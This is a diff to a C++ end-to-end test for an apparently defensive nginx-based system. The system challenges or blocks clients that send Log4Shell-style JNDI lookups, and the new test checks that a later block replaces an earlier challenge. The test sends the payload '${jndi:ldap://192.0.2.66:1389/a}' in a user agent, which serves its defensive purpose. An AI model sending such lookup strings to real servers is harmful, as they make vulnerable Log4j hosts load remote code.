@@ -9,7 +9,8 @@
 // What a page can make a visitor's browser send (a URL, a referer) is answered with a managed
 // challenge, through an access rule: a forum post embedding <img src="/?q=${jndi:...}"> must not
 // ban its readers. A payload in the user agent, which no page can set, is blocked (the IP list),
-// also when the same line holds it in the URL too: the block must not wait behind the challenge.
+// also when the same line holds it in the URL too: the block must not wait behind the challenge,
+// nor when a later line of a challenged client holds it (the block replaces the challenge).
 #include <unistd.h>
 
 #include <cstdio>
@@ -191,6 +192,20 @@ TEST(NginxE2eTest, EncodedLettersDoNotHideAScannerEncodedTwiceTheyProbeNothing) 
   ASSERT_TRUE(palisade::v1::Decisions::NewStub(channel)->List(&ctx, request, &response).ok());
   EXPECT_EQ(response.decisions_size(), 0) << response.DebugString();
   EXPECT_EQ(EmulatorListedValues(**cf), (std::set<std::string>{kAgentAttacker, kBothAttacker}));
+
+  // The scanner, challenged for its probes, then sends the lookup in its user agent: the block
+  // outranks the challenge and replaces it at the edge, the list item in and the access rule
+  // out (before 2026-12-07 the block waited behind the challenge until the challenge ended).
+  EXPECT_FALSE(nginx.Get("/", kScanner, "${jndi:ldap://192.0.2.66:1389/a}").empty());
+  const bool replaced = WaitFor(
+      [&] {
+        return EmulatorListedValues(**cf).count(kScanner) == 1 &&
+               AccessRuleModes(**cf).count(kScanner) == 0 && ActionsPending(**daemon) == 0;
+      },
+      absl::Seconds(60));
+  ASSERT_TRUE(replaced) << EmulatorState(**cf).dump(2);
+  EXPECT_EQ(AccessRuleModes(**cf),
+            (std::map<std::string, std::string>{{kVisitor, "managed_challenge"}}));
 }
 
 }  // namespace
